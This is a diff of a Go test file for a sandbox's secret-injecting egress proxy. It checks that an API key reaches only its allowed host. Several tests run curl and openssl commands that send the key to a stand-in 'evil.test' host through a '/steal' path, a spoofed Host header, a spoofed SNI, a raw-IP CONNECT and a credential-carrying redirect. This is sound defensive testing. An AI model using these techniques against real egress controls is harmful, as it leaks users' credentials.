@@ -51,7 +51,7 @@ type apiServer struct {
 
 // newAPIServer starts the API with a certificate for secretHosts signed
 // by a CA of its own.
-func newAPIServer(t *testing.T) *apiServer {
+func newAPIServer(t testing.TB) *apiServer {
 	t.Helper()
 	caKey, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
 	caTmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "test API CA"}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour), IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign}
@@ -71,6 +71,14 @@ func newAPIServer(t *testing.T) *apiServer {
 		a.mu.Lock()
 		a.header = append(a.header, strings.Split(r.Host, ":")[0]+" "+r.Header.Get("Authorization"))
 		a.mu.Unlock()
+		if r.URL.Path == "/big" {
+			w.Write(make([]byte, 1<<20))
+			return
+		}
+		if r.URL.Path == "/redirect" {
+			http.Redirect(w, r, "https://evil.test:"+a.port+"/landed", http.StatusFound)
+			return
+		}
 		w.Write([]byte("api ok"))
 	}))
 	srv.TLS = &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}}
@@ -98,7 +106,7 @@ func apiSecret(value string) []sandbox.Secret {
 // secretsDomainSandbox returns a started sandbox with the domain allow
 // list api.test,evil.test and the secret API_KEY for api.test, whose
 // proxy trusts api's CA.
-func secretsDomainSandbox(t *testing.T, api *apiServer) *local.Sandbox {
+func secretsDomainSandbox(t testing.TB, api *apiServer) *local.Sandbox {
 	t.Helper()
 	testenv.Need(t, haveCurl(), "curl is not installed: the probes run it inside the sandbox")
 	testenv.Need(t, os.Geteuid() == 0, "the domain allow list's sandboxes need root here")
@@ -336,7 +344,7 @@ func TestSecretsOtherHostGetsPlaceholder(t *testing.T) {
 	// evil.test is on the domain allow list but not a host of the secret:
 	// its connection is not intercepted (curl verifies the API's own
 	// certificate against the API's CA, given here).
-	code, out := curl(t, sb, `--cacert /dev/stdin -H "Authorization: Bearer $API_KEY" https://evil.test:`+api.port+"/steal <<'EOF'\n"+string(api.caPEM)+"EOF\n")
+	code, out := curl(t, sb, "--cacert "+trustAPI(t, sb, api)+` -H "Authorization: Bearer $API_KEY" https://evil.test:`+api.port+"/steal")
 	if code != 0 {
 		t.Fatalf("curl to evil.test: exit %d: %s", code, out)
 	}
@@ -350,7 +358,7 @@ func TestSecretsSpoofedHostHeader(t *testing.T) {
 	sb := secretsDomainSandbox(t, api)
 	p := placeholderOf(t, sb)
 	// A tunnel to evil.test whose request says Host: api.test.
-	code, out := curl(t, sb, `--cacert /dev/stdin -H "Host: api.test" -H "Authorization: Bearer $API_KEY" https://evil.test:`+api.port+"/spoof <<'EOF'\n"+string(api.caPEM)+"EOF\n")
+	code, out := curl(t, sb, "--cacert "+trustAPI(t, sb, api)+` -H "Host: api.test" -H "Authorization: Bearer $API_KEY" https://evil.test:`+api.port+"/spoof")
 	if code != 0 {
 		t.Fatalf("curl: exit %d: %s", code, out)
 	}
@@ -387,11 +395,93 @@ func TestSetSecretsLiveRotateAndDetach(t *testing.T) {
 		t.Errorf("Info.Secrets after detach = %+v", info.Secrets)
 	}
 	// A process that kept the old placeholder sends it unchanged.
-	code, out := curl(t, sb, `--cacert /dev/stdin -H "Authorization: Bearer `+before+`" https://api.test:`+api.port+"/after <<'EOF'\n"+string(api.caPEM)+"EOF\n")
+	code, out := curl(t, sb, "--cacert "+trustAPI(t, sb, api)+` -H "Authorization: Bearer `+before+`" https://api.test:`+api.port+"/after")
 	if code != 0 {
 		t.Fatalf("curl after detach: exit %d: %s", code, out)
 	}
 	if got := api.received(); len(got) != 1 || got[0] != "api.test Bearer "+before {
 		t.Errorf("after detach the API got %q, want the placeholder", got)
 	}
+}
+
+// noValue fails the test when the API got the value.
+func noValue(t *testing.T, api *apiServer) {
+	t.Helper()
+	for _, h := range api.received() {
+		if strings.Contains(h, secretValue) {
+			t.Errorf("the API got the value: %q", h)
+		}
+	}
+}
+
+func TestSecretsEscapeConnectToIP(t *testing.T) {
+	api := newAPIServer(t)
+	sb := secretsDomainSandbox(t, api)
+	code, out := curl(t, sb, `-k -H "Authorization: Bearer $API_KEY" https://127.0.0.1:`+api.port+"/ip")
+	if code == 0 {
+		t.Errorf("a CONNECT to the API's address succeeded: %s", out)
+	}
+	noValue(t, api)
+}
+
+func TestSecretsEscapeRedirectToOtherHost(t *testing.T) {
+	api := newAPIServer(t)
+	sb := secretsDomainSandbox(t, api)
+	p := placeholderOf(t, sb)
+	// curl follows the redirect to evil.test with the header
+	// (--location-trusted); evil.test's connection is not intercepted.
+	code, out := curl(t, sb, "--location-trusted --cacert "+trustAPI(t, sb, api)+` -H "Authorization: Bearer $API_KEY" https://api.test:`+api.port+"/redirect")
+	if code != 0 || out != "api ok" {
+		t.Fatalf("curl: exit %d: %s", code, out)
+	}
+	got := api.received()
+	if len(got) != 2 || got[0] != "api.test Bearer "+secretValue || got[1] != "evil.test Bearer "+p {
+		t.Errorf("the API got %q, want the value at api.test and the placeholder at evil.test", got)
+	}
+}
+
+func TestSecretsEscapeSpoofedSNI(t *testing.T) {
+	api := newAPIServer(t)
+	sb := secretsDomainSandbox(t, api)
+	testenv.Need(t, run(t, sb, "command -v openssl").ExitCode == 0, "openssl is not installed in the sandbox")
+	// A tunnel to evil.test whose ClientHello names api.test.
+	run(t, sb, `printf 'GET /sni HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n' "$API_KEY" | timeout 10 openssl s_client -quiet -proxy 127.0.0.1:3128 -connect evil.test:`+api.port+` -servername api.test 2>&1`)
+	noValue(t, api)
+}
+
+func TestSecretsCleartextKeepsPlaceholder(t *testing.T) {
+	api := newAPIServer(t)
+	sb := secretsDomainSandbox(t, api)
+	port := originServer(t)
+	// api.test over cleartext HTTP: the secret allows TLS only.
+	code, out := curl(t, sb, `-H "Authorization: Bearer $API_KEY" http://api.test:`+port+"/clear")
+	if code != 0 || strings.Contains(out, secretValue) {
+		t.Errorf("exit %d: %q", code, out)
+	}
+	policyLog(t, sb, "API_KEY")
+}
+
+func TestSecretsEgressProxyEndsWithSandbox(t *testing.T) {
+	api := newAPIServer(t)
+	sb := secretsDomainSandbox(t, api)
+	pid := local.EgressProxyPID(sb)
+	if pid == 0 {
+		t.Fatal("no egress proxy serves the sandbox")
+	}
+	if err := sb.Destroy(context.Background()); err != nil {
+		t.Fatal(err)
+	}
+	if !poll(5*time.Second, func() bool { return processGone(pid) }) {
+		t.Errorf("the egress proxy %d still runs after the sandbox's removal", pid)
+	}
+}
+
+// trustAPI writes in sb a bundle of its trust variables' bundle and the
+// API's own CA, and returns its path: curl then verifies both the
+// secrets proxy's certificates and the API's, seen through a tunnel that
+// is not intercepted.
+func trustAPI(t testing.TB, sb *local.Sandbox, api *apiServer) string {
+	t.Helper()
+	mustRun(t, sb, "cat \"$SSL_CERT_FILE\" > /tmp/api-bundle.pem && cat >> /tmp/api-bundle.pem <<'EOF'\n"+string(api.caPEM)+"EOF")
+	return "/tmp/api-bundle.pem"
 }
